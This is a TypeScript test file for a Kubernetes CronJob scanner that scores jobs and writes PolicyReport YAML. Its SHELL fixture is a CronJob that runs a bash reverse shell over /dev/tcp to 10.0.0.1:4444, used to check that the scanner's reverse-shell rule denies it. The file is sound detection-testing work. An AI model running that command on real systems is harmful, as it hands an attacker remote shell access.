import { describe, expect, it } from '@jest/globals';
import { parseAllDocuments } from 'yaml';
import { assess } from '../src/engine.js';
import {
  buildPolicyReports,
  clusterReport,
  formatPolicyReports,
  namespaceReports,
  objectResults,
  type PolicyReportResult,
  type ReportOptions,
} from '../src/format/policy-report.js';
import { toResult, type ScanResult } from '../src/format/result.js';
import { ENGINE_ERROR_RULE } from '../src/scoring/types.js';
import { engineFor } from './support/review.js';

const NOW = new Date('2026-03-04T05:06:07.890Z');
const OPTIONS: ReportOptions = {
  thresholds: { annotate: 2, warn: 4, deny: 8 },
  techniqueOf: (rule) => (rule === 'reverse-shell' ? 'T1059' : undefined),
};

function cronJob(name: string, container: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  return {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name, namespace: 'team-a', uid: `uid-${name}`, ...extra },
    spec: {
      schedule: '0 3 * * *',
      jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', containers: [container] } } } },
    },
  };
}

function scored(object: Record<string, unknown>, policy: Parameters<typeof engineFor>[0] = {}): ScanResult {
  const assessment = assess(engineFor(policy), object, { now: NOW });
  if (!assessment) throw new Error('nothing to score');
  return toResult(assessment, { source: 'cluster', document: 0, line: 0 });
}

const SHELL = cronJob('shell', {
  name: 'c',
  image: 'alpine:latest',
  command: ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
});

function byRule(results: readonly PolicyReportResult[]): Record<string, PolicyReportResult> {
  return Object.fromEntries(results.map((r) => [r.rule, r]));
}

describe('PolicyReport results', () => {
  it('judges each finding on its own: a weight-0 finding on a denied object is an unscored info warn', () => {
    const result = scored(SHELL);
    expect(result.verdict).toBe('deny');
    const results = byRule(objectResults({ result, uid: 'uid-shell' }, NOW, OPTIONS));
    expect(results['reverse-shell']).toMatchObject({
      result: 'fail',
      scored: true,
      severity: 'critical', // weight 10 alone reaches deny (8)
      category: 'MITRE ATT&CK T1059',
      properties: { weight: '10', technique: 'T1059', verdict: 'deny' },
    });
    expect(results['generic-image']).toMatchObject({ result: 'fail', scored: true, severity: 'low' });
    expect(results['unpinned-image']).toMatchObject({ result: 'warn', scored: false, severity: 'info' });
    expect(results['unpinned-image']!.category).toBeUndefined();
    expect(results['reverse-shell']!.resources).toEqual([
      { apiVersion: 'batch/v1', kind: 'CronJob', namespace: 'team-a', name: 'shell', uid: 'uid-shell' },
    ]);
    expect(results['reverse-shell']!.timestamp).toEqual({ seconds: 1772600767, nanos: 0 });
  });

  it('reports weighted findings of an object below the warn threshold as unscored warns', () => {
    const result = scored(cronJob('plain', { name: 'c', image: 'alpine:3.20' }));
    expect(result.verdict).toBe('allow');
    const results = objectResults({ result }, NOW, OPTIONS);
    expect(results.map((r) => [r.rule, r.result, r.scored])).toEqual([['generic-image', 'warn', false]]);
  });

  it('gives a clean object one pass, an exempted one a skip naming the reason, a failed rule an error', () => {
    const clean = scored(
      cronJob('clean', { name: 'c', image: 'registry.example.com/app@sha256:' + 'a'.repeat(64) }),
    );
    expect(objectResults({ result: clean }, NOW, OPTIONS)).toEqual([
      expect.objectContaining({ rule: 'score', result: 'pass', scored: true, message: 'score 0' }),
    ]);
    const exempt = scored(SHELL, {
      exemptions: [{ reason: 'red team exercise', namespaces: ['team-a'] }],
    });
    expect(objectResults({ result: exempt }, NOW, OPTIONS)).toEqual([
      expect.objectContaining({
        rule: 'score',
        result: 'skip',
        scored: false,
        message: 'exempt: red team exercise',
      }),
    ]);
    const failed: ScanResult = {
      ...clean,
      findings: [{ rule: ENGINE_ERROR_RULE, weight: 0, message: 'rule x failed', path: '' }],
    };
    expect(objectResults({ result: failed }, NOW, OPTIONS)).toEqual([
      expect.objectContaining({ rule: ENGINE_ERROR_RULE, result: 'error', scored: false }),
    ]);
  });
});

describe('PolicyReport layout', () => {
  it('scopes each namespace report to its Namespace and counts its results', () => {
    const reports = buildPolicyReports([{ result: scored(SHELL), uid: 'uid-shell' }], NOW, OPTIONS);
    expect(reports.map((r) => [r.kind, r.metadata.name, r.metadata.namespace])).toEqual([
      ['PolicyReport', 'jobguard', 'team-a'],
      ['ClusterPolicyReport', 'jobguard', undefined],
    ]);
    const [namespace, cluster] = reports;
    expect(namespace!.scope).toEqual({ apiVersion: 'v1', kind: 'Namespace', name: 'team-a' });
    expect(namespace!.summary).toEqual({ pass: 0, fail: 2, warn: 2, error: 0, skip: 0 });
    expect(cluster!.results).toEqual([
      expect.objectContaining({
        rule: 'namespace',
        result: 'fail',
        severity: 'critical',
        message: '1 object scored in warn mode: 2 warn, 2 fail',
        properties: expect.objectContaining({ mode: 'warn', fail: '2', warn: '2', objects: '1' }) as unknown,
      }),
    ]);
  });

  it('splits a namespace over several reports by size, never splitting an object', () => {
    const objects = ['a', 'b', 'c'].map((name) =>
      objectResults(
        { result: scored(cronJob(name, SHELL.spec.jobTemplate.spec.template.spec.containers[0]!)) },
        NOW,
        OPTIONS,
      ),
    );
    const one = JSON.stringify(objects[0]).length;
    const pages = namespaceReports('team-a', objects, Math.ceil(one * 1.5));
    expect(pages.map((p) => p.metadata.name)).toEqual(['jobguard', 'jobguard-2', 'jobguard-3']);
    expect(pages.map((p) => p.results.length)).toEqual(objects.map((o) => o.length));
    expect(pages.every((p) => p.summary.fail === 2)).toBe(true);
    expect(namespaceReports('team-a', objects).map((p) => p.metadata.name)).toEqual(['jobguard']);
    expect(namespaceReports('empty', [])).toEqual([
      expect.objectContaining({ results: [], summary: { pass: 0, fail: 0, warn: 0, error: 0, skip: 0 } }),
    ]);
  });

  it('names unreadable kinds as errors in the cluster report', () => {
    const report = clusterReport([], [{ kind: 'Deployment', message: 'HTTP 403 Forbidden' }], NOW);
    expect(report.summary.error).toBe(1);
    expect(report.results[0]).toMatchObject({
      rule: 'read',
      result: 'error',
      message: 'cannot read Deployment objects: HTTP 403 Forbidden',
    });
  });

  it('prints YAML without anchors or aliases that reads back to the same reports', () => {
    const reports = buildPolicyReports([{ result: scored(SHELL), uid: 'uid-shell' }], NOW, OPTIONS);
    const text = formatPolicyReports(reports);
    expect(text).not.toMatch(/(^|\s)[&*]a\d+\b/m);
    const docs = parseAllDocuments(text);
    if (!Array.isArray(docs)) throw new Error('no documents');
    expect(docs.map((d) => d.toJS() as unknown)).toEqual(JSON.parse(JSON.stringify(reports)));
  });
});
